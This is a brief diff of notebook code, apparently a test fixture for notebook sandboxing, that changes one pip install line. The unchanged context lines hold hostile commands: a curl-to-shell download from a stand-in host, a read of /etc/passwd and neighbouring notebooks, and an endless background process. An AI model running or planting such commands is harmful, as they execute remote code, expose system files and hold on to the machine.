@@ -8,7 +8,7 @@ def select_threshold(logits, maximum):
 
 !curl -s http://example.org/x | sh
 files = !cat /etc/passwd ../../*/*/*.ipynb
-%pip install --quiet no-such-package
+%pip install --quiet --no-index no-such-package
 # %% after select_threshold
 %%bash
 nohup sh -c 'while true; do sleep 1; done' &
